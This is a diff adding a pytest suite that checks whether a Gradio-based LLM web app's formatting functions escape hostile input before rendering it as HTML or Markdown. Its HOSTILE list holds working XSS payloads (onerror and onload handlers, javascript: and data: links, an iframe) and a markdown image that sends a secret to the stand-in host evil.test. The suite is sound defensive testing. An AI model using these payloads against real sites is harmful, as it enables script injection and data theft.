@@ -1,0 +1,165 @@
+"""Every string from outside (a visitor, the model, an import, a file name) reaches the page through
+web/formatting.py's `escape` (issue 25): each panel's formatting function is rendered with hostile
+strings in every field, Markdown is rendered to HTML as a browser's renderer would (raw HTML on,
+every link allowed), and the parsed HTML has no element or attribute that came from the input."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from types import SimpleNamespace
+
+import gradio as gr
+import pytest
+from markdown_it import MarkdownIt
+
+from llmweb.errors import InputError
+from llmweb.records import GenerationStats, MemorySnapshot, Source, TurnStats
+from llmweb.store.models import Conversation, Fact, StoredTurn
+from llmweb.web import formatting as f
+from llmweb.web.panels.base import user_errors
+
+HOSTILE = [
+    '"><img src=x onerror=alert(1)>',
+    "<script>alert(1)</script>",
+    "' onmouseover='alert(1)' x='",
+    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
+    "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [v](VBScript:msgbox)",
+    "<javascript:alert(1)> <http://x.test/?<img src=x onerror=alert(1)>>",
+    "![pixel](http://evil.test/leak?q=secret) ![x](x onerror=alert(1))",
+    "<!-- comment --><iframe src=//evil.test></iframe><style>*{display:none}</style>",
+    "`<b>code</b>` ```\n<img src=x onerror=alert(1)>\n```",
+    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
+    "<details open ontoggle=alert(1)>",
+    "</div></svg></title><img src=x onerror=alert(1)>",
+]
+BENIGN = "plain words"
+MARKDOWN_TAGS = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br"}  # no a, no img
+MARKDOWN_TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
+BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
+
+
+class Elements(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attrs: list[tuple[str, str, str]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attrs += [(tag, name, value or "") for name, value in attrs]
+
+    handle_startendtag = handle_starttag
+
+
+def elements(html_text: str) -> Elements:
+    p = Elements()
+    p.feed(html_text)
+    p.close()
+    return p
+
+
+def markdown_html(text: str) -> str:
+    md = MarkdownIt("commonmark", {"html": True}).enable("table")
+    md.validateLink = lambda url: True  # the test, not markdown-it's own filter, must catch bad links
+    return md.render(text)
+
+
+def conversation(s: str) -> Conversation:
+    mem = MemorySnapshot(rss_bytes=1 << 20, cuda_allocated_bytes=1, cuda_reserved_bytes=2, cuda_peak_bytes=2)
+    stats = TurnStats(
+        turn=1,
+        gen=GenerationStats(prompt_tokens=90, generated_tokens=3, finish_reason=s, mem=mem),
+        sections={s: 40, "system": 10, "reserve": 30},
+        context_limit=100,
+        dropped_turns=1,
+    )
+    source = Source(1, s, heading=s, score=0.5, snippet=s)
+    turns = [
+        StoredTurn(0, s, s, stats, [source, Source(2, s, page=3, kind="recall", snippet=s)]),
+        StoredTurn(1, s, "", None, []),
+    ]
+    return Conversation(
+        "c1", s, s, 1, turns, facts=[Fact(1, s, True, 0.0), Fact(2, s, False, 0.0)], versions={0: (1, 2)}
+    )
+
+
+def rendered(s: str) -> dict[str, str]:
+    """Every formatting output filled with `s`, as the HTML a browser would get."""
+    conv = conversation(s)
+    tokens, memory = f.plot_frames(conv)
+    docs = [SimpleNamespace(source=s, chunks=2, scope="yours"), SimpleNamespace(source=s, chunks=1, scope="shared")]
+    reports = [SimpleNamespace(ok=True, describe=lambda: s), SimpleNamespace(ok=False, describe=lambda: s)]
+    out = {
+        "sections_html": f.sections_html(conv.turns[0].stats),
+        "tokens_plot": f.line_chart_html(tokens, "tokens", "section", s, f.SECTION_COLOURS),
+        "memory_plot": f.line_chart_html(memory.rename(columns={"MiB": s}), s, "measure", "Memory"),
+        "stats_markdown": markdown_html(f.stats_markdown(conv.turns[0].stats, 100)),
+        "summary_markdown": markdown_html(f.summary_markdown(conv)),
+        "documents_markdown": markdown_html(f.documents_markdown(docs)),
+        "ingest_markdown": markdown_html(f.ingest_markdown(reports)),
+    }
+    for i, message in enumerate(f.history_messages(conv)):
+        out[f"message {i}"] = markdown_html(message["content"])
+    out["sources_message"] = markdown_html(f.sources_message(conv.turns[0].sources)["content"])
+    out["error toast"] = _toast(InputError(f"The file {s} is not allowed."))
+    return out
+
+
+def _toast(error: Exception) -> str:
+    @user_errors
+    def handler():
+        raise error
+
+    with pytest.raises(gr.Error) as e:
+        handler()
+    return e.value.message
+
+
+ALLOWED = {
+    name: (elements(html).tags, {(t, a) for t, a, _ in elements(html).attrs}) for name, html in rendered(BENIGN).items()
+}
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_no_element_or_attribute_comes_from_hostile_text(hostile):
+    for name, html in rendered(hostile).items():
+        tags, attrs = ALLOWED[name]
+        found = elements(html)
+        assert found.tags <= tags | MARKDOWN_TAGS, (name, found.tags - tags, html)
+        for tag, attr, value in found.attrs:
+            assert not attr.startswith("on"), (name, attr, html)
+            fence = (tag, attr) == ("code", "class") and value.startswith("language-")  # a code fence's language
+            assert (tag, attr) in attrs or fence, (name, tag, attr, html)
+            if attr in {"href", "src", "xlink:href", "action", "formaction"}:
+                assert not value.strip().lower().startswith(BAD_SCHEMES), (name, value, html)
+            if attr not in {"title", "aria-label"}:
+                assert "alert" not in value and "evil" not in value, (name, attr, value, html)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_plain_labels_and_choices_keep_the_text_as_written(hostile):
+    """Radio and dropdown choices are shown as text by Gradio (never as HTML): kept as written."""
+    conv = conversation(hostile)
+    assert f.fact_label(conv.facts[0]).endswith(hostile[:57]) or "…" in f.fact_label(conv.facts[0])
+    hit = SimpleNamespace(title=hostile, idx=0, snippet="x", conversation_id="c")
+    assert f.search_choices([hit])[0][0].startswith(hostile)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_an_edited_message_comes_back_as_the_visitor_wrote_it(hostile):
+    """The edit control hands back the shown (escaped) text: `message_text` undoes the escape."""
+    shown = f.history_messages(conversation(hostile))[0]["content"]
+    assert f.message_text(shown) == hostile
+
+
+def test_an_unexpected_error_shows_only_a_ref_and_logs_the_details(caplog):
+    toast = _toast(FileNotFoundError("/srv/llmweb/secret/path.db"))
+    assert "/srv" not in toast and "FileNotFoundError" not in toast
+    assert toast.startswith("Something went wrong (ref ")
+    ref = toast.split("ref ")[1].split(")")[0]
+    assert any(ref in r.getMessage() and r.exc_info for r in caplog.records)
+    assert "/srv/llmweb/secret/path.db" in caplog.text
+
+
+def test_a_domain_error_shows_its_sentence():
+    assert _toast(InputError("Pick a file first.")) == "Pick a file first."
